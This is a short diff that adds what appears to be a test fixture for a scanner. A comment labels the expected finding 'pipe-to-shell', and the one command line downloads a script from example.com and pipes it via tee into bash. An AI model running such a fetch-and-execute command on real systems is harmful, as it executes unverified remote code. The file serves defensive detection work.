@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+curl https://example.com/x | tee /tmp/log | /usr/bin/env bash
